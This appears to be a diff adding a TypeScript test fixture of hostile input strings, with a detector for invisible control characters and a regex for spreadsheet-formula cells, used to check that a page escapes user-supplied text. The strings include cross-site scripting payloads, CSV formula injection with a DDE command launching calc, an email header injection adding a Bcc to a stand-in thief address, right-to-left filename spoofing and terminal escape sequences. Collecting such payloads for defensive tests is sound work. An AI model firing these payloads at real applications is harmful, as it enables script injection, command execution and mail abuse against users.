@@ -1,0 +1,34 @@
+/** Stands in every text, so that its markup is told from a page's own. */
+export const mark = 'hostile-mark';
+
+/** What somebody may have written into SAP, a file's name or a message, to become something else where it is shown. */
+export const hostileTexts = [
+  `<script>alert("${mark}")</script><${mark}>`,
+  `"><img ${mark} src=x onerror=alert(1)><${mark} a="`,
+  `' onmouseover='alert(1)' ${mark}='<${mark}>`,
+  `javascript:alert("${mark}")`,
+  `</textarea></title></style></script><${mark}>`,
+  `<svg/onload=alert(1)><${mark}></svg><!-- ${mark}`,
+  `=cmd|' /C calc'!A0 ${mark}`,
+  `+1+${mark}`,
+  `-1-${mark}`,
+  `@SUM(1) ${mark}`,
+  `\t=1+1 ${mark}`,
+  `${mark};=1+1,=2+2\t=3+3\n=4+4\r=5+5`,
+  `${mark}\r\nBcc: thief@evil.example\r\nContent-Type: text/html\r\n\r\n<${mark}>`,
+  `${mark} \u202Egpj.exe\u2066\u200B\u200D\uFEFF\u2028`,
+  `${mark} \u001b[2J\u0000\u0007\u009b2J`,
+  `\${${mark}} {{${mark}}} #{${mark}} <%= ${mark} %> %s %n`,
+] as const;
+
+/**
+ * What is in a text of what changes how others are shown: controls (but the end of a line), format characters, separators;
+ * each with what stands around it.
+ */
+export function invisibleIn(text: string): readonly string[] {
+  const found = text.replaceAll('\r\n', '\n').matchAll(/.{0,60}(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}].{0,20}/gu);
+  return Array.from(found, ([around]) => JSON.stringify(around));
+}
+
+/** Start of a cell that a spreadsheet evaluates, in a CSV file whose cells are all quoted. */
+export const formulas = /(^|[\r\n,;])"?\s*[=+@＝＋＠]/;
